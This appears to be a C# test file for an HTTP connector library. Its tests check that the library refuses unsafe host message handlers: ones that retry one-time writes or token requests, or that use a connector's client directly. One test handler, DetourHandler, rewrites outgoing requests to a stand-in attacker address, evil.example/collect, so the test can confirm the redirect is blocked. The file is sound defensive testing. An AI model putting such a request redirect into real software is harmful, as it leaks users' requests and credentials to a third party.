using System.Net;
using Microsoft.Extensions.DependencyInjection;

namespace Sequence.Connectors.Http.Tests;

public sealed class GuardTests
{
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Stops_a_handler_of_the_host_that_repeats_a_write(bool byDefault)
    {
        await using var host = Start(byDefault);
        await host.AddGrantAsync();
        host.Api.AnswersInTurn(() => StubSystem.Json("{}", 500));

        var failure = await Assert.ThrowsAsync<EffectUnknownException>(() => host.SendAsync(TestHost.Write(RequestEffect.Once)));

        Assert.Single(host.Api.Requests);
        Assert.Contains("must not be sent twice", failure.Reason, StringComparison.Ordinal);
        Assert.Contains("RemoveAllResilienceHandlers", failure.Reason, StringComparison.Ordinal);
        Assert.Contains("ApiOptions", failure.Reason, StringComparison.Ordinal);
        var rule = Assert.IsType<ConnectorException>(failure.InnerException!.InnerException);
        Assert.Equal(ConnectorErrorKind.Configuration, rule.Kind);
    }

    [Theory]
    [InlineData(RequestEffect.Read)]
    [InlineData(RequestEffect.Repeatable)]
    public async Task Lets_a_handler_of_the_host_repeat_what_may_be_repeated(RequestEffect effect)
    {
        await using var host = Start(byDefault: false);
        await host.AddGrantAsync();
        host.Api.AnswersInTurn(() => StubSystem.Json("{}", 500), () => StubSystem.Json("{}"));

        var answer = await host.SendAsync(TestHost.Write(effect));

        Assert.Null(answer.Fault);
        Assert.Equal(2, host.Api.Requests.Count);
    }

    [Fact]
    public async Task Stops_a_handler_of_the_host_that_repeats_a_token_request()
    {
        await using var host = Start(byDefault: true);
        await host.AddGrantAsync(NodaTime.Duration.Zero);
        host.Login.AnswersInTurn(() => StubSystem.Json("{}", 500));

        await Assert.ThrowsAsync<ConnectorException>(() => host.SendAsync(TestHost.Read()));

        Assert.Single(host.Login.Requests);
    }

    [Fact]
    public async Task Stops_a_handler_of_the_host_that_sends_elsewhere()
    {
        await using var host = new TestHost(configure: connectors =>
            connectors.ConfigureHttpClient("test", http => http.AddHttpMessageHandler(() => new DetourHandler()))
        );
        await host.AddGrantAsync();

        var failure = await Assert.ThrowsAsync<ConnectorException>(() => host.SendAsync(TestHost.Write(RequestEffect.Once)));

        Assert.Equal(ConnectorErrorKind.Configuration, failure.Kind);
        Assert.Contains("evil.example", failure.Message, StringComparison.Ordinal);
        Assert.Empty(host.Api.Requests);
    }

    [Fact]
    public async Task Runs_the_handlers_of_the_host_inside_each_attempt()
    {
        var seen = 0;
        await using var host = new TestHost(configure: connectors =>
            connectors.ConfigureHttpClient(
                "test",
                http =>
                    http.AddHttpMessageHandler(() =>
                        new SpyHandler(request =>
                        {
                            seen++;
                            Assert.NotNull(request.Headers.Authorization);
                        })
                    )
            )
        );
        await host.AddGrantAsync();
        host.Api.AnswersInTurn(() => StubSystem.Json("{}", 503), () => StubSystem.Json("{}"));

        await host.SendAsync(TestHost.Read());

        Assert.Equal(2, seen);
    }

    [Fact]
    public async Task Refuses_the_client_of_a_connector_to_others()
    {
        await using var host = new TestHost();
        using var client = host.Get<IHttpClientFactory>().CreateClient(ApiClientFactory.ClientName("test"));

        var failure = await Assert.ThrowsAsync<ConnectorException>(
            () => client.GetAsync(new Uri("https://api.test.example/base/x"), TestContext.Current.CancellationToken));

        Assert.Contains("ApiClient", failure.Message, StringComparison.Ordinal);
    }

    private static TestHost Start(bool byDefault) =>
        byDefault
            ? new TestHost(services: services =>
                services.ConfigureHttpClientDefaults(http => http.AddHttpMessageHandler(() => new NaiveRetryHandler()))
            )
            : new TestHost(configure: connectors =>
                connectors.ConfigureHttpClient("test", http => http.AddHttpMessageHandler(() => new NaiveRetryHandler()))
            );

    private sealed class NaiveRetryHandler : DelegatingHandler
    {
        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            var response = await base.SendAsync(request, cancellationToken);
            return response.StatusCode == HttpStatusCode.InternalServerError ? await base.SendAsync(request, cancellationToken) : response;
        }
    }

    private sealed class DetourHandler : DelegatingHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            request.RequestUri = new Uri("https://evil.example/collect");
            return base.SendAsync(request, cancellationToken);
        }
    }

    private sealed class SpyHandler(Action<HttpRequestMessage> look) : DelegatingHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            look(request);
            return base.SendAsync(request, cancellationToken);
        }
    }
}
